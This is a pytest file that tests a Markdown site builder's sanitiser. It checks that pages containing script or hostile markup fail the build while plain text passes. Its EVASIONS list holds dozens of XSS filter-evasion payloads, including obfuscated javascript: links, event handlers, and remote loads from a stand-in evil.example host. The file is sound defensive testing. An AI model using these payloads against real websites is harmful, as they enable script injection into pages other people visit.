"""Content cannot carry code, however it is spelt; and what is no code is left alone."""

import pytest

PAGE = "docs/vi/luat/index.md"

EVASIONS = {
    "upper case": "<SCRIPT>alert(1)</SCRIPT>",
    "mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "unclosed script": "Đoạn.\n\n<script>alert(1)",
    "script closed by a sign far below": "<script src=//evil.example/x.js\n\nmột > hai",
    "less than without a space": "A<B, x > y",
    "slash for a space": "<svg/onload=alert(1)>",
    "within a paragraph": "Chữ <svg/onload=alert(1)> chữ",
    "line end in a tag": "<img\nsrc=x\nonerror=alert(1)>",
    "tab in a tag": "<img\tsrc=x\tonerror=alert(1)>",
    "unquoted handler": "<b onclick=alert(1)>x</b>",
    "single quotes": "<b onmouseover='alert(1)'>x</b>",
    "after a comment that never opens": "<!--><img src=x onerror=alert(1)>-->",
    "in a comment": "<!-- <script>alert(1)</script> -->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "nested brackets of tags": "<<script>alert(1)//<</script>",
    "iframe": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": "<object data=//evil.example></object>",
    "base": '<base href="//evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "link": "<link rel=stylesheet href=//evil.example/x.css>",
    "style tag": "<style>@import '//evil.example';</style>",
    "style attribute": '<p style="background:url(//evil.example)">x</p>',
    "closing tags that leave the article": "</article></main></body><p>x</p>",
    "form": "<form action=//evil.example><input name=a></form>",
    "details with a handler": '<details open ontoggle="alert(1)">x</details>',
    "template": "<template><script>alert(1)</script></template>",
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "mathml": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "ping": '<a href="https://a.example" ping="//evil.example">x</a>',
    "srcset": '<img alt="x" src="a.png" srcset="//evil.example/x.png 2x">',
    "javascript link": "[x](javascript:alert)",
    "javascript link in mixed case": "[x](JaVaScRiPt:alert)",
    "javascript link in entities": "[x](&#106;avascript&#58;alert)",
    "javascript link in hexadecimal entities": "[x](&#x6a;&#x61;vascript&colon;alert)",
    "javascript link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript link with a line end": '<a href="java\nscript:alert(1)">x</a>',
    "javascript link with an entity for a line end": '<a href="java&#10;script:alert(1)">x</a>',
    "javascript link behind a control character": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript link with a zero-width space": "[x](java\u200bscript:alert)",
    "javascript link in angle brackets": "[x](<javascript:alert(1)>)",
    "javascript link with a title": '[x](javascript:alert "Bấm")',
    "javascript autolink": "<javascript:alert(1)>",
    "javascript behind a reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript behind a bare reference": "[x]\n\n[x]: <javascript:alert(1)>",
    "vbscript link": "[x](vbscript:msgbox)",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "blob link": "[x](blob:https://evil.example/1)",
    "file link": "[x](file:///etc/passwd)",
    "intent link": "[x](intent://evil.example#Intent;end)",
    "link without a scheme": "<a href=//evil.example>x</a>",
    "quoted link without a scheme": '<a href="//evil.example">x</a>',
    "link of backslashes": "[x](\\\\\\\\evil.example)",
    "handler in an attribute list": "**x**{ onclick=alert(1) }",
    "handler in an attribute list of a heading": "### x {#x onclick=alert(1) }",
    "handler in an attribute list of a block": "Đoạn.\n{: onclick=alert(1) }",
    "style in an attribute list": "**x**{: style=position:fixed }",
    "handler in an attribute list of a link": "[x](../index.md){ onclick=alert(1) }",
    "handler in an attribute list of a fence": '``` { .py onclick="alert(1)" }\nx\n```',
    "handler in an attribute list of a table": "| a | b |\n|---|---|\n| x | y { onclick=alert(1) } |",
    "remote picture": "![x](https://evil.example/x.png)",
    "remote picture without a scheme": "![x](//evil.example/x.png)",
    "remote picture behind a reference": "![x][y]\n\n[y]: https://evil.example/x.png",
    "remote picture as a tag": '<img alt="x" src="https://evil.example/x.png">',
    "remote picture of backslashes": '<img alt="x" src="\\\\evil.example\\x.png">',
    "remote picture in a link": "[![x](https://evil.example/x.png)](../index.md)",
    "picture of data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "mark as a tag": "<[[hotlines/duong-day-mau|name]] src=//evil.example>",
    "mark in a tag": "<s[[hotlines/duong-day-mau|name]]>x",
    "mark in an address": "[x](java[[hotlines/duong-day-mau|name]]script:alert)",
    "mark as an address": "[x]([[hotlines/duong-day-mau|name]])",
    "mark in an attribute": '<b title="[[laws/luat-mau|name]]">x</b>',
    "mark in a title": '[x](../index.md "[[laws/luat-mau|name]]")',
    "mark in an attribute list": "**x**{ title=[[laws/luat-mau|name]] }",
    "mark in the id of a heading": "### x {#x[[laws/luat-mau|name]]}",
    "mark in the words of a picture": "![[[laws/luat-mau|name]]](anh.png)",
    "mark behind a reference": "[x][y]\n\n[y]: [[hotlines/duong-day-mau|name]]",
}

INNOCENTS = {
    "code span": "Gõ `<script>alert(1)</script>` vào ô.",
    "fenced code": "``` { .html }\n<script>alert(1)</script>\n```",
    "code block": "    <script>alert(1)</script>\n",
    "less than": "Dưới 3 < 5 và A < B, x > y.",
    "tag that never ends": "Gõ <script src=a.js",
    "ampersand": "Lan & Hoa, A&B, AT&amp;T, &copy;.",
    "lone bracket": "Mũi tên <- và -> và <3.",
    "curly brackets": "Viết {tên} và { tên } vào đơn.",
    "the word itself": "Chữ javascript: không phải là liên kết; data: cũng vậy.",
    "https link": '[trang khác](https://a.example/b?c=d&e=f#g "Tên")',
    "scheme in a query": "[tìm](https://a.example/?q=javascript:alert)",
    "two slashes in a path": "[tệp](https://a.example/b//c)",
    "telephone": "[gọi](tel:1234), [nhắn](sms:1234), [thư](mailto:a@a.example)",
    "telephone from a mark": "[gọi](tel:[[hotlines/duong-day-mau|dial]])",
    "https autolink": "<https://a.example/>",
    "mail autolink": "<a@a.example>",
    "link behind a reference": "[x][y]\n\n[y]: https://a.example/",
    "class, language and title": 'Chữ **đậm**{ .kit-note lang=en title="lời" }.',
    "heading with class": "### Mục {#muc .kit-note}",
    "table": "| a | b |\n|:--|--:|\n| 1 | [luật](../index.md) |",
    "line break": "Một<br>hai<br />ba, H<sub>2</sub>O.",
    "mark in the words of a link": "[[[laws/luat-mau|name]]](https://a.example/)",
    "mark in a heading": "### Theo [[laws/luat-mau|name]] {#theo}",
    "picture of ours": '![Người nghe loa.](anh.png "Loa")',
    "time and ratio": "Từ 7:30 đến 9:00, tỉ lệ 1:2. Xem [mục](#muc-phat): ở trên.",
}


RECORDED = ("b?c=d&e=f#g", "?q=javascript:alert", "b//c", "")
"""Pages of another site that an innocent page links to."""


@pytest.fixture
def written(small):
    """The codes of a page with that body."""
    addresses = "".join(f'    - "https://a.example/{path}"\n' for path in RECORDED)
    small.edit("content/reports/trang-mau.yml", "  urls:\n", f"  urls:\n{addresses}")

    def codes(body):
        small.write("docs/vi/luat/anh.png", b"PNG")
        small.write(PAGE, f"---\ntitle: Luật\ndescription: Luật.\n---\n## Phạt {{#muc-phat}}\n\n{body}\n")
        return small.codes()

    return codes


@pytest.mark.parametrize("body", EVASIONS.values(), ids=EVASIONS)
def test_code_is_found_however_it_is_spelt(body, written):
    """CODE01 … CODE04 are errors: the page does not build."""
    assert [code for code in written(body) if code.startswith("CODE")]


@pytest.mark.parametrize("body", INNOCENTS.values(), ids=INNOCENTS)
def test_what_is_no_code_is_left_alone(body, written):
    """Plain Markdown, and words about code, are no problem of any kind."""
    assert written(body) == []


def test_titles_and_descriptions_are_text_and_nothing_else(small):
    """Templates escape them, so nothing in them can run."""
    small.edit(PAGE, "title: Luật", "title: <script>alert(1)</script>")

    assert small.codes() == []
